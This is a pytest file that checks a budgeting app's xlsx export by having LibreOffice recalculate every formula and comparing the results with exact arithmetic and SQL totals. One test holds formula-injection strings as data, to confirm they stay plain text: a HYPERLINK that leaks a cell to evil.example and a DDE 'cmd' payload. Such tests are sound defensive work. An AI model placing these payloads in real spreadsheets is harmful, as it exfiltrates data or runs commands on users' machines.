"""The workbook recalculated by LibreOffice: every total, change and percentage equals the app's own figures.

How the recalculation is forced: LibreOffice trusts the values cached in an
.xlsx by default ("never recalculate" Excel 2007+ files). soffice runs here
with a throwaway profile (-env:UserInstallation) whose registrymodifications.xcu
sets Calc's OOXMLRecalcMode to 0, "always recalculate"; it converts xlsx to
xlsx, which stores the values it computed, and openpyxl reads those
(data_only=True). To prove the recalculation happened, every formula's cached
value is first overwritten with a wrong one.

CI (CI=true) must have soffice: there the test fails instead of skipping.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import zipfile
from collections import defaultdict
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pytest
import sqlalchemy as sa
from export_samples import (
    OBJECT_CLASSES,
    PRIORITIES,
    PROGRAM,
    REGIONS,
    STAFFING,
    SUMMARY,
    TRAVEL,
    detail_rows,
    sample_workbook,
    total,
    write_file,
)
from formulas import Evaluator
from helpers import own_export, plan_scenario

from exports import Limits, parse_submission
from models import Appropriation, BudgetLine, db

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
TIMEOUT = 180
STALE = b"<v>-999999</v>"
ALWAYS_RECALCULATE = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
           xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <item oor:path="/org.openoffice.Office.Calc/Formula/Load">
    <prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop>
  </item>
  <item oor:path="/org.openoffice.Office.Calc/Formula/Load">
    <prop oor:name="ODFRecalcMode" oor:op="fuse"><value>0</value></prop>
  </item>
</oor:items>
"""


def soffice() -> str:
    if SOFFICE:
        return SOFFICE
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail("soffice not found: CI must install libreoffice-calc (see .ci/run)", pytrace=False)
    pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc) to recalculate the workbook")


def with_stale_cached_values(source: Path, target: Path) -> None:
    """Copy the workbook with a wrong cached value in every formula cell."""
    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in archive.infolist():
            data = archive.read(info)
            if info.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"(</f>)<v\s*/>", rb"\1" + STALE, data)
            out.writestr(info, data)


def recalculate(source: Path, workdir: Path) -> Path:
    profile = workdir / "profile"
    (profile / "user").mkdir(parents=True)
    (profile / "user" / "registrymodifications.xcu").write_text(ALWAYS_RECALCULATE)
    outdir = workdir / "out"
    result = subprocess.run(
        [soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore", "--nologo",
         "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(outdir), str(source)],
        capture_output=True, text=True, timeout=TIMEOUT, env={**os.environ, "HOME": str(workdir)}, check=False,
    )  # fmt: skip
    converted = outdir / source.name
    assert result.returncode == 0, result.stderr
    assert converted.exists(), f"LibreOffice wrote nothing: {result.stdout} {result.stderr}"
    return converted


@pytest.fixture(scope="module")
def calc(tmp_path_factory):
    soffice()
    workdir = tmp_path_factory.mktemp("libreoffice")
    rows = detail_rows(200)
    path, _ = write_file(sample_workbook(detail=rows), workdir, "written.xlsx")
    stale = workdir / "submission.xlsx"
    with_stale_cached_values(path, stale)
    converted = recalculate(stale, workdir)
    return SimpleNamespace(
        rows=rows,
        path=converted,
        values=openpyxl.load_workbook(converted, data_only=True),
        formulas=openpyxl.load_workbook(path),
    )


def cents(value: object) -> Decimal:
    assert isinstance(value, int | float), f"not a number: {value!r}"
    return Decimal(repr(value)).quantize(Decimal("0.01"))


def test_stale_cached_values_were_recalculated(calc):
    assert b"-999999" in zipfile.ZipFile(calc.path.parent.parent / "submission.xlsx").read("xl/worksheets/sheet1.xml")
    for ws in calc.values:
        for row in ws.iter_rows(values_only=True):
            assert -999999 not in row, ws.title


def test_summary_totals_and_changes(calc):
    ws = calc.values["Summary"]
    for row, item in enumerate(SUMMARY, start=5):
        assert cents(ws[f"F{row}"].value) == item.by - item.cy
        if item.cy:
            assert round(Decimal(repr(ws[f"G{row}"].value)), 10) == round((item.by - item.cy) / item.cy, 10)
        else:
            assert ws[f"G{row}"].value in (None, "")
    for column, year in zip("CDE", ("py", "cy", "by"), strict=True):
        assert cents(ws[f"{column}8"].value) == total([getattr(item, year) for item in SUMMARY])
    assert cents(ws["F8"].value) == total([item.by - item.cy for item in SUMMARY])


def test_object_class_subtotals_and_grand_total(calc):
    ws = calc.values["Object class"]
    for row, account in ((8, "DP"), (10, "ESF"), (13, "INCLE")):
        members = [item for item in OBJECT_CLASSES if item.label[0] == account]
        for column, year in zip("DEF", ("py", "cy", "by"), strict=True):
            assert cents(ws[f"{column}{row}"].value) == total([getattr(item, year) for item in members])
        assert cents(ws[f"G{row}"].value) == total([item.by - item.cy for item in members])
    for column, year in zip("DEF", ("py", "cy", "by"), strict=True):
        assert cents(ws[f"{column}14"].value) == total([getattr(item, year) for item in OBJECT_CLASSES])


def test_program_matrix_totals(calc):
    ws = calc.values["Program"]
    cells: dict[tuple[str, str], Decimal] = defaultdict(Decimal)
    for region, priority, _, amount in PROGRAM:
        cells[region, priority] += amount
    for row, region in enumerate(REGIONS, start=5):
        assert cents(ws[f"F{row}"].value) == total([cells[region, priority] for priority in PRIORITIES])
    for column, priority in zip("BCDE", PRIORITIES, strict=True):
        assert cents(ws[f"{column}8"].value) == total([cells[region, priority] for region in REGIONS])
    everything = total([amount for *_, amount in PROGRAM])
    assert cents(ws["F8"].value) == cents(ws["F15"].value) == everything


def test_staffing_travel_and_detail_totals(calc):
    staffing = calc.values["Staffing"]
    for column, field in zip("BCDFGH", ("fte_py", "fte_cy", "fte_by", "cost_py", "cost_cy", "cost_by"), strict=True):
        assert cents(staffing[f"{column}7"].value) == total([getattr(item, field) for item in STAFFING])
    assert cents(staffing["I7"].value) == total([item.cost_by - item.cost_cy for item in STAFFING])
    assert cents(calc.values["Travel"]["G7"].value) == total([trip.amount for trip in TRAVEL])
    assert cents(calc.values["About"]["B12"].value) == total([row.amount for row in calc.rows])


def test_every_formula_agrees_with_exact_decimal_arithmetic(calc):
    exact = Evaluator(calc.formulas)
    checked = 0
    for ws in calc.formulas:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type != "f":
                    continue
                expected = exact.value(ws.title, cell.coordinate)
                computed = calc.values[ws.title][cell.coordinate].value
                if expected == "":
                    assert computed in (None, ""), (ws.title, cell.coordinate)
                elif cell.number_format == "0.0%":
                    assert round(Decimal(repr(computed)), 10) == round(expected, 10), (ws.title, cell.coordinate)
                else:
                    assert cents(computed) == expected, (ws.title, cell.coordinate)
                checked += 1
    assert checked > 50  # every total, change and percentage on five sheets


def test_user_text_is_still_text_after_libreoffice_saves_it(calc):
    ws = calc.values["Detail"]
    descriptions = {ws[f"K{n}"].value for n in range(2, len(calc.rows) + 2)}
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' in descriptions
    assert {"+1", "-2", "@SUM(A1)", "#N/A", "=1+1"} <= descriptions
    assert calc.values["Travel"]["C6"].value == "=cmd|' /C calc'!A0"


def test_a_file_libreoffice_saved_parses_to_the_same_rows(calc):
    parsed = parse_submission(calc.path.read_bytes(), Limits(max_text=40_000))
    assert parsed.errors == ()
    assert [row.amount for row in parsed.rows] == [row.amount for row in calc.rows]
    assert [row.line_id for row in parsed.rows] == [row.line_id for row in calc.rows]
    assert parsed.rows[1].description == "+1"


def test_the_apps_spend_plan_recalculated_totals_each_appropriation_and_the_scenario(app, tmp_path):
    """The demo plan's workbook, recalculated: each column's total is the appropriation's lines, summed by SQL."""
    soffice()
    plan = plan_scenario()
    written = tmp_path / "written.xlsx"
    written.write_bytes(own_export(plan))
    stale = tmp_path / "submission.xlsx"
    with_stale_cached_values(written, stale)
    values = openpyxl.load_workbook(recalculate(stale, tmp_path), data_only=True)["Spend plan"]

    by_label = {
        funds.label: int(cents)
        for funds, cents in db.session.execute(
            sa.select(Appropriation, sa.func.sum(BudgetLine.amount_cents))
            .join(BudgetLine, BudgetLine.appropriation_id == Appropriation.id)
            .where(BudgetLine.scenario_id == plan.id)
            .group_by(Appropriation.id)
        ).tuples()
    }
    scenario_total = db.session.scalar(
        sa.select(sa.func.sum(BudgetLine.amount_cents)).where(
            BudgetLine.scenario_id == plan.id, BudgetLine.appropriation_id.in_(sa.select(Appropriation.id))
        )
    )
    header = [cell.value for cell in values[4]]
    assert (header[0], header[-1]) == ("Month", "Total")
    assert sorted(header[1:-1]) == sorted(by_label)
    totals = next(row for row in values.iter_rows(min_row=5) if row[0].value == "Total")
    for label, cell in zip(header[1:-1], totals[1:-1], strict=True):
        assert cents(cell.value) == Decimal(by_label[label]) / 100, label
    assert cents(totals[-1].value) == Decimal(int(scenario_total)) / 100
    for row in values.iter_rows(min_row=5, max_row=totals[0].row - 1):  # each month's total across
        assert cents(row[-1].value) == sum((cents(cell.value) for cell in row[1:-1]), Decimal(0)), row[0].value
